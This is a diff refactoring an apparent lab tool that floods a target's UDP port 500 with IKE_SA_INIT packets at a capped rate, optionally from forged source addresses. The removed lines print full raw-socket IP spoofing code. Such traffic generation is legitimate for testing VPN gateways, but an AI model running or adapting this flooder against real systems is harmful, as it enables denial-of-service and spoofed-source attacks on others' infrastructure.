@@ -21,7 +21,10 @@ import random
 import socket
 import struct
 import sys
-import time
+
+sys.dont_write_bytecode = True  # no __pycache__ in the source tree
+sys.path.insert(0, os.path.join(os.path.dirname(os.path.abspath(__file__)), "..", "lab"))
+import labflood  # noqa: E402
 
 
 def transform(last: bool, ttype: int, tid: int, attrs: bytes = b"") -> bytes:
@@ -47,45 +50,18 @@ def ike_sa_init(spi_i: bytes, rng: random.Random) -> bytes:
 
 
 def main() -> int:
-    if len(sys.argv) != 8:
-        print(__doc__, file=sys.stderr)
-        return 2
-    dst, prefix = sys.argv[1], sys.argv[2]
-    first, sources, count, rate, max_s = (int(x) for x in sys.argv[3:])
-    if not (1 <= sources <= 250 and count <= 200_000 and rate <= 50_000 and max_s <= 120):
-        print("limits exceeded", file=sys.stderr)
-        return 2
+    dst, prefix, first, sources, count, rate, max_s = labflood.parse_args(__doc__, 200_000, 50_000, 120)
     rng = random.Random(int.from_bytes(os.urandom(8), "big"))
     forged = prefix != "-"
     if forged:
-        s = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
-        s.setsockopt(socket.IPPROTO_IP, socket.IP_HDRINCL, 1)
-        srcs = [socket.inet_aton(prefix + str(first + i)) for i in range(sources)]
-        dst_b = socket.inet_aton(dst)
+        forger = labflood.Forger(dst, prefix, first, sources)
+        send = forger.send
     else:
         s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
         s.bind(("0.0.0.0", 500))
-    t0 = time.monotonic()
-    sent = 0
-    batch = max(1, rate // 100)  # 100 batches a second
-    while sent < count and time.monotonic() - t0 < max_s:
-        for _ in range(min(batch, count - sent)):
-            payload = ike_sa_init(b"\xf2" + os.urandom(7), rng)
-            try:
-                if forged:
-                    udp = struct.pack("!HHHH", 500, 500, 8 + len(payload), 0) + payload
-                    ip = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + len(udp), 0, 0, 64, 17, 0,
-                                     srcs[sent % sources], dst_b)
-                    s.sendto(ip + udp, (dst, 0))
-                else:
-                    s.sendto(payload, (dst, 500))
-            except OSError:
-                pass
-            sent += 1
-        ahead = t0 + sent / rate - time.monotonic()
-        if ahead > 0:
-            time.sleep(ahead)
-    el = max(time.monotonic() - t0, 1e-6)
+        send = lambda _n, payload: s.sendto(payload, (dst, 500))  # noqa: E731
+    sent, el = labflood.paced(count, rate, max_s,
+                              lambda n: send(n, ike_sa_init(b"\xf2" + os.urandom(7), rng)))
     print(f"sent {sent} IKE_SA_INIT from {'forged' if forged else 'own'} sources in {el:.2f} s "
           f"({sent / el:.0f}/s)", flush=True)
     return 0
